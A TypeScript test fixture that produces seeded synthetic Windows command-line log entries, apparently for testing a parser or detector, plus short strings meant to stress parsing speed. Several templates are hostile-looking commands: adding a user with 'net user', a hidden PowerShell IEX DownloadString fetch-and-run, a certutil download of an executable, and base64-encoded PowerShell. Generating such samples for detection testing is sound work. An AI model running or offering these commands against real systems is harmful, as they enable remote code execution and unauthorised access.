import { seededRandom } from '../workspace/sample/random';

const SEED = 2_019;
const HOSTS = ['files.example.org', 'cdn.example.net', 'updates.example.com'] as const;

/** Seeded command lines as hosts log them; one in six carries base64 as PowerShell takes it. */
export function commandLines(count: number): readonly string[] {
  const random = seededRandom(SEED);
  const number = (): number => random.between(0, 9_999);
  const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
  const kinds: readonly [() => string, ...Array<() => string>] = [
    () => `"C:\\Windows\\System32\\cmd.exe" /c net user user${number()} /add & echo done ${random.guid()}`,
    () =>
      `C:\\Program Files\\App\\tool${number()}.exe --server host${number()}.${random.pick(HOSTS)} --out C:\\Users\\bob\\AppData\\Local\\Temp\\f${number()}.tmp`,
    () =>
      `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://10.1.${random.between(0, 255)}.4:8080/a${number()}.ps1')"`,
    () => `certutil -urlcache -split -f https://${random.pick(HOSTS)}/x/y${number()}.exe C:\\ProgramData\\y.exe`,
    () => `svchost.exe -k netsvcs -p -s Schedule ${random.guid().replace(/-/g, '')}`,
    () =>
      `powershell.exe -NonInteractive -enc ${wide(`Invoke-WebRequest https://${random.pick(HOSTS)}/${number()} | Out-File C:\\Temp\\${number()}.txt`)}`,
  ];
  return Array.from({ length: count }, () => random.pick(kinds)());
}

/** Short texts that, repeated, make slow what is not linear. */
export const HOSTILE = [
  '\\',
  'a\\',
  'a.',
  'a@',
  'http://[',
  '[',
  '[[.]',
  '::',
  'C:\\a b ',
  '"',
  'SQBu^',
  'a---',
  "'+'ab",
  'abc/+a9Z',
  'H4sIAAAAAAAA+3BM ',
  'usr/local/share/longpath/indeed/word/abc/def ',
];

/** A text of so many characters. */
export const repeated = (piece: string, length: number): string =>
  piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
